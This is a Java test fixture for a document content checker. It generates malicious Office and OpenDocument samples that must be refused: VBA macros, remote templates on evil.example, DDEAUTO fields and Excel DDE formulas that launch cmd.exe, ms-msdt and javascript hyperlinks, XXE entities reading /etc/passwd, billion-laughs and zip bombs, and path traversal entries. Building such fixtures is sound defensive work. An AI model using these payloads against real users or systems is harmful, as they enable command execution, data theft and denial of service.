package vn.namro.proving.contentcheck;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;

/** Office documents that would run, fetch, hide or swell: every one of these has to be refused. */
final class HarmfulDocuments {

	private static final byte[] PROGRAM = Pdfs.latin("MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff" + "\0".repeat(200));

	private static final String FIELD = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>%s<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

	private final List<Sample> samples = new ArrayList<>();

	static List<Sample> all() {
		HarmfulDocuments files = new HarmfulDocuments();
		files.macros();
		files.external();
		files.fields();
		files.embedded();
		files.encrypted();
		files.entities();
		files.swelling();
		files.paths();
		files.openDocuments();
		files.old();
		return files.samples;
	}

	private void add(String what, String name, byte[] bytes, Refusal refusal) {
		this.samples.add(Sample.harmful(what, name, bytes, refusal));
	}

	private void macros() {
		for (String part : List.of("word/vbaProject.bin", "word/VBAPROJECT.BIN", "vbaProject.bin", "word/vbaData.xml", "x/y/vbaProject.bin", "word\\vbaProject.bin")) {
			add("macro in " + part, "a.docx", Zips.docx().with(part, new byte[100]).bytes(), Refusal.MACRO);
		}
		add("macro in a workbook", "a.xlsx", Zips.xlsx().with("xl/vbaProject.bin", new byte[9]).bytes(), Refusal.MACRO);
		add("macro in slides", "a.pptx", Zips.pptx().with("ppt/vbaProject.bin", new byte[9]).bytes(), Refusal.MACRO);
		add("sheet of macros", "a.xlsx", Zips.xlsx().with("xl/macrosheets/sheet1.xml", "<a/>").bytes(), Refusal.MACRO);
		add("another name for the project", "a.docx", Zips.docx()
			.with("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"ảnh.bin\"/></Relationships>")
			.bytes(), Refusal.MACRO);
		add("macro in an embedded workbook", "a.docx", Zips.docx().with("word/embeddings/a.xlsx", Zips.xlsx().with("xl/vbaProject.bin", new byte[9]).bytes()).bytes(), Refusal.MACRO);
		add("project as a compound file", "a.docx", Zips.docx().with("word/media/image1.png", Compounds.of("VBA/dir", new byte[50])).bytes(), Refusal.MACRO);
		for (String extension : List.of("docm", "dotm", "docx", "xlsm", "pptm")) {
			String type = "application/vnd.ms-word.document.macroEnabled.main+xml";
			byte[] bytes = Zips.empty().with("[Content_Types].xml", Zips.types("word/document.xml", type)).with("word/document.xml", Zips.body("")).bytes();
			add("macro-enabled as ." + extension, "a." + extension, bytes, Refusal.MACRO);
			add("plain as ." + extension, "a." + extension, Zips.docx().bytes(), extension.equals("docx") ? null : Refusal.MACRO);
		}
		this.samples.removeIf(sample -> sample.refusal() == null);
	}

	private void external() {
		List<String> remote = List.of("http://evil.example/t.dotm", "https://evil.example/t.dotx", "\\\\10.0.0.1\\share\\t.dotm", "file://10.0.0.1/share/t.dotm", "file:///\\\\10.0.0.1\\t.dotm", "ftp://evil.example/a",
				"HTTP://evil.example/T.DOTM", "mhtml:http://evil.example/a!x-usc:b", "//evil.example/t.dotm");
		for (String target : remote) {
			add("template from " + target, "a.docx",
					Zips.docx().with("word/_rels/settings.xml.rels", Zips.relations(Zips.relation("rId1", "attachedTemplate", target, true))).bytes(), Refusal.EXTERNAL);
			add("object from " + target, "a.docx",
					Zips.docx().with("word/_rels/document.xml.rels", Zips.relations(Zips.relation("rId1", "oleObject", target, true))).bytes(), Refusal.EXTERNAL);
		}
		for (String type : List.of("frame", "control", "package", "subDocument", "worksheet", "unknown")) {
			add("external " + type, "a.docx", Zips.docx().with("word/_rels/webSettings.xml.rels", Zips.relations(Zips.relation("rId1", type, "http://evil.example/x", true))).bytes(),
					Refusal.EXTERNAL);
		}
		for (String target : List.of("javascript:alert(1)", "vbscript:x", "ms-msdt:/id PCWDiagnostic", "search-ms:query=a&amp;crumb=location:%5c%5cevil", "\\\\evil\\a\\b.exe", "file://evil/a.exe",
				"ms-word:ofe|u|http://evil.example/a.docm", "java&#x09;script:alert(1)", "data:text/html,&lt;script>", "ms-officecmd:x", "file:%2f%2fevil/a")) {
			add("hyperlink to " + target, "a.docx", Zips.docx().with("word/_rels/document.xml.rels", Zips.relations(Zips.relation("rId1", "hyperlink", target, true))).bytes(),
					Refusal.EXTERNAL);
			add("hyperlink to " + target, "a.pptx", Zips.pptx().with("ppt/slides/_rels/slide1.xml.rels", Zips.relations(Zips.relation("rId1", "hyperlink", target, true))).bytes(),
					Refusal.EXTERNAL);
		}
	}

	private void fields() {
		List<String> pieces = List.of("<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>", "<w:r><w:instrText> DDE excel a b </w:instrText></w:r>",
				"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\a</w:instrText></w:r>", "<w:r><w:instrText> dDeAuTo x y</w:instrText></w:r>",
				"<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>E a</w:instrText></w:r>",
				"<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r>", "<w:r><w:instrText>&#x44;DEAUTO a b</w:instrText></w:r>", "<w:r><w:instrText>\tDDEAUTO\ta</w:instrText></w:r>");
		for (String piece : pieces) {
			add("field " + piece, "a.docx", Zips.docx(FIELD.formatted(piece)).bytes(), Refusal.DDE);
			add("field in a header " + piece, "a.docx", Zips.docx().with("word/header1.xml", Zips.body(FIELD.formatted(piece))).bytes(), Refusal.DDE);
		}
		add("simple field", "a.docx", Zips.docx("<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd \"/c calc\"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>").bytes(), Refusal.DDE);
		add("text from another machine", "a.docx", Zips.docx(FIELD.formatted("<w:r><w:instrText>INCLUDETEXT \"http://evil.example/a\"</w:instrText></w:r>")).bytes(), Refusal.EXTERNAL);
		for (String formula : List.of("cmd|'/c calc'!A0", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "=cmd|' /C notepad'!'A1'", "1+cmd|'/c calc'!A0", "SUM(cmd|'/c a'!A1)")) {
			add("formula " + formula, "a.xlsx", Zips.xlsx("<row r=\"1\"><c r=\"A1\"><f>" + formula + "</f></c></row>").bytes(), Refusal.DDE);
		}
		add("link by DDE", "a.xlsx", Zips.xlsx().with("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"s\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>").bytes(),
				Refusal.DDE);
		add("link by OLE", "a.xlsx", Zips.xlsx().with("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"s\"><oleLink progId=\"a\"/></externalLink>").bytes(), Refusal.EXTERNAL);
	}

	private void embedded() {
		add("control", "a.docx", Zips.docx().with("word/activeX/activeX1.bin", new byte[9]).bytes(), Refusal.ACTIVEX);
		add("control in a workbook", "a.xlsx", Zips.xlsx().with("xl/activeX/activeX1.xml", "<a/>").bytes(), Refusal.ACTIVEX);
		add("control in slides", "a.pptx", Zips.pptx().with("ppt/activeX/activeX2.xml", "<a/>").bytes(), Refusal.ACTIVEX);
		for (String name : List.of("word/media/image1.png", "word/embeddings/oleObject1.bin", "word/theme.bin", "customXml/x")) {
			add("program as " + name, "a.docx", Zips.docx().with(name, PROGRAM).bytes(), Refusal.EMBEDDED);
			add("package as " + name, "a.docx", Zips.docx().with(name, Compounds.of("\u0001Ole10Native", new byte[90])).bytes(), Refusal.EMBEDDED);
			add("archive as " + name, "a.docx", Zips.docx().with(name, Zips.empty().with("a.exe", PROGRAM).bytes()).bytes(), Refusal.EMBEDDED);
			add("PDF as " + name, "a.docx", Zips.docx().with(name, Pdfs.latin("%PDF-1.7 x")).bytes(), Refusal.EMBEDDED);
		}
		for (String name : List.of("word/afchunk.mht", "word/a.html", "word/a.rtf", "word/a.js", "word/a.lnk")) {
			add("part " + name, "a.docx", Zips.docx().with(name, "x").bytes(), Refusal.EMBEDDED);
		}
		add("chunk of another kind", "a.docx", Zips.docx("<w:altChunk r:id=\"a\"/>").bytes(), Refusal.EMBEDDED);
		add("drawing with a script", "a.docx", Zips.docx().with("word/media/a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>").bytes(), Refusal.MACRO);
	}

	private void encrypted() {
		for (String extension : List.of("docx", "xlsx", "pptx", "doc")) {
			add("password on ." + extension, "a." + extension, Compounds.of("EncryptionInfo", new byte[100], "EncryptedPackage", new byte[9_000]), Refusal.ENCRYPTED);
		}
		for (Zips zip : List.of(Zips.docx(), Zips.xlsx(), Zips.pptx(), Zips.openDocument(FileKind.ODT))) {
			byte[] bytes = zip.bytes();
			for (int i = 0; i < bytes.length - 10; i++) {
				if (bytes[i] == 'P' && bytes[i + 1] == 'K' && (bytes[i + 2] == 3 || bytes[i + 2] == 1)) {
					bytes[i + (bytes[i + 2] == 3 ? 6 : 8)] |= 1;
				}
			}
			add("encrypted archive", "a", bytes, Refusal.ENCRYPTED);
		}
		add("password on an open document", "a.odt", Zips.openDocument(FileKind.ODT).with("META-INF/manifest.xml", Zips.manifest("<manifest:encryption-data/>")).bytes(), Refusal.ENCRYPTED);
	}

	private void entities() {
		String laughs = "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>";
		List<String> bad = List.of(laughs, "<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><l>&x;</l>", "<!DOCTYPE l SYSTEM \"http://evil.example/l.dtd\"><l/>",
				"<!DOCTYPE l [<!ENTITY % p SYSTEM \"http://evil.example/p\">%p;]><l/>");
		for (String xml : bad) {
			add("entities in a letter", "a.docx", Zips.docx().with("word/styles.xml", xml).bytes(), Refusal.DTD);
			add("entities in relations", "a.docx", Zips.docx().with("word/_rels/document.xml.rels", xml).bytes(), Refusal.DTD);
			add("entities in a workbook", "a.xlsx", Zips.xlsx().with("xl/sharedStrings.xml", xml).bytes(), Refusal.DTD);
			add("entities in types", "a.xlsx", Zips.empty().with("[Content_Types].xml", xml).bytes(), Refusal.DTD);
			add("entities in slides", "a.pptx", Zips.pptx().with("ppt/slides/slide2.xml", xml).bytes(), Refusal.DTD);
			add("entities in an open document", "a.odt", Zips.openDocument(FileKind.ODT).with("styles.xml", xml).bytes(), Refusal.DTD);
			add("wide entities", "a.docx", Zips.docx().with("word/styles.xml", ("\ufeff<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + xml).getBytes(StandardCharsets.UTF_16LE)).bytes(), Refusal.DTD);
			add("entities under another name", "a.docx", Zips.docx().with("word/media/image1.png", xml).bytes(), Refusal.DTD);
		}
		add("entities in an old drawing", "a.xlsx", Zips.xlsx().with("xl/drawings/vmlDrawing1.vml", laughs).bytes(), Refusal.DTD);
	}

	private void swelling() {
		byte[] zeros = new byte[20 * 1024 * 1024];
		for (Map.Entry<String, Zips> zip : Map.of("a.docx", Zips.docx(), "a.xlsx", Zips.xlsx(), "a.pptx", Zips.pptx(), "a.odt", Zips.openDocument(FileKind.ODT)).entrySet()) {
			add("swelling picture", zip.getKey(), zip.getValue().with("media/image9.png", zeros).bytes(), Refusal.BOMB);
		}
		byte[] blanks = new byte[20 * 1024 * 1024];
		Arrays.fill(blanks, (byte) ' ');
		add("swelling text", "a.docx", Zips.docx().with("word/footnotes.xml", Zips.joined("<a>".getBytes(StandardCharsets.UTF_8), blanks, "</a>".getBytes(StandardCharsets.UTF_8))).bytes(), Refusal.BOMB);
		add("word without end", "a.docx", Zips.docx().with("word/a.xml", Zips.joined(Pdfs.latin("<a b=\""), Arrays.copyOf(blanks, 6_000_000), Pdfs.latin("\"/>"))).bytes(), Refusal.BOMB);
		for (int depth : new int[] { 600, 5_000, 100_000 }) {
			add("nested " + depth + " deep", "a.docx", Zips.docx("<w:p>".repeat(depth) + "</w:p>".repeat(depth)).bytes(), Refusal.BOMB);
		}
		Zips nested = Zips.xlsx();
		for (int i = 0; i < 4; i++) {
			nested = Zips.xlsx().with("xl/embeddings/a.xlsx", nested.bytes());
		}
		add("workbooks in workbooks", "a.xlsx", nested.bytes(), Refusal.BOMB);
		Zips many = Zips.docx();
		for (int i = 0; i < 10_001; i++) {
			many.with("p/" + i, new byte[0]);
		}
		add("too many parts", "a.docx", many.bytes(), Refusal.BOMB);
		add("parts that overlap", "a.docx", overlapping(), Refusal.BOMB);
	}

	/** Two entries of the directory that share one place: a local header with two names in the directory. */
	private static byte[] overlapping() {
		byte[] bytes = Zips.docx().with("word/a.bin", new byte[10]).with("word/b.bin", new byte[10]).bytes();
		String text = new String(bytes, StandardCharsets.ISO_8859_1);
		int a = text.lastIndexOf("word/a.bin") - 46;
		int b = text.lastIndexOf("word/b.bin") - 46;
		System.arraycopy(bytes, a + 42, bytes, b + 42, 4);
		return bytes;
	}

	private void paths() {
		for (String path : List.of("../../etc/cron.d/a", "/etc/passwd", "word/../../a", "..\\..\\a.bat", "C:\\Windows\\a.exe", "c:/a", "word/..", "\\\\evil\\a")) {
			add("path " + path, "a.docx", Zips.docx().with(path, new byte[3]).bytes(), Refusal.PATH);
			add("path " + path, "a.ods", Zips.openDocument(FileKind.ODS).with(path, new byte[3]).bytes(), Refusal.PATH);
		}
	}

	private void openDocuments() {
		for (FileKind kind : List.of(FileKind.ODT, FileKind.ODS, FileKind.ODP)) {
			String name = "a." + kind.extensions().get(0);
			add("library of macros", name, Zips.openDocument(kind).with("Basic/Standard/Module1.xml", "<a/>").bytes(), Refusal.MACRO);
			add("scripts", name, Zips.openDocument(kind).with("Scripts/python/a.py", "x").bytes(), Refusal.MACRO);
			add("listener", name, Zips.openDocument(kind, "<script:event-listener xlink:href=\"vnd.sun.star.script:a.b?language=Basic\"/>").bytes(), Refusal.MACRO);
			add("button of a macro", name, Zips.openDocument(kind, "<text:a xlink:href=\"macro:///Standard.M.a\"/>").bytes(), Refusal.MACRO);
			add("source elsewhere", name, Zips.openDocument(kind, "<text:section-source xlink:href=\"http://evil.example/a.odt\"/>").bytes(), Refusal.EXTERNAL);
			add("frame", name, Zips.openDocument(kind, "<draw:floating-frame xlink:href=\"https://evil.example\"/>").bytes(), Refusal.EXTERNAL);
			add("object elsewhere", name, Zips.openDocument(kind, "<draw:object xlink:href=\"\\\\evil\\a\"/>").bytes(), Refusal.EXTERNAL);
			add("picture of another machine", name, Zips.openDocument(kind, "<draw:image xlink:href=\"file://evil/a.png\"/>").bytes(), Refusal.EXTERNAL);
			add("applet", name, Zips.openDocument(kind, "<draw:applet xlink:href=\"a.jar\"/>").bytes(), Refusal.EMBEDDED);
			add("DDE", name, Zips.openDocument(kind, "<office:dde-source office:dde-application=\"cmd\"/>").bytes(), Refusal.DDE);
			add("connection by DDE", name, Zips.openDocument(kind, "<text:dde-connection-decl office:name=\"a\"/>").bytes(), Refusal.DDE);
		}
	}

	private void old() {
		add("macros", "a.doc", Compounds.of("WordDocument", Compounds.letter(4_096, 0, "x"), "Macros/VBA/dir", new byte[9]), Refusal.MACRO);
		add("project", "a.xls", Compounds.of("Workbook", new byte[] { 9, 8, 0, 0 }, "_VBA_PROJECT_CUR/VBA/dir", new byte[9]), Refusal.MACRO);
		add("project in slides", "a.ppt", Compounds.of("PowerPoint Document", new byte[9], "VBA/dir", new byte[9]), Refusal.MACRO);
		add("sheet of macros", "a.xls", Compounds.workbook(1, 3), Refusal.MACRO);
		add("module", "a.xls", Compounds.workbook(6, 3), Refusal.MACRO);
		add("password", "a.doc", Compounds.of("WordDocument", Compounds.letter(4_096, 1, "x")), Refusal.ENCRYPTED);
		add("password", "a.xls", Compounds.workbook(0, 3, Compounds.record(0x2f, new byte[54])), Refusal.ENCRYPTED);
		add("package", "a.doc", Compounds.of("WordDocument", Compounds.letter(4_096, 0, "x"), "ObjectPool/_1/\u0001Ole10Native", PROGRAM), Refusal.EMBEDDED);
		add("field", "a.doc", Compounds.of("WordDocument", Compounds.letter(8_192, 0, "\u0013 DDEAUTO c:\\\\cmd \u0014 \u0015")), Refusal.DDE);
		add("link", "a.xls", Compounds.workbook(0, 1, Compounds.record(0x1ae, new byte[] { 0, 0, 6, 0, 0, 'c', 'm', 'd', 3, '/', 'c' })), Refusal.DDE);
		add("no document", "a.doc", Compounds.of("Something", new byte[9]), Refusal.KIND);
		add("installer", "a.msi", Compounds.of("Something", new byte[9]), Refusal.KIND);
	}

	static byte[] program() {
		return PROGRAM.clone();
	}

	static byte[] packed(byte[] bytes) {
		Deflater deflater = new Deflater();
		deflater.setInput(bytes);
		deflater.finish();
		byte[] out = new byte[bytes.length + 100];
		int length = deflater.deflate(out);
		deflater.end();
		return Arrays.copyOf(out, length);
	}

}
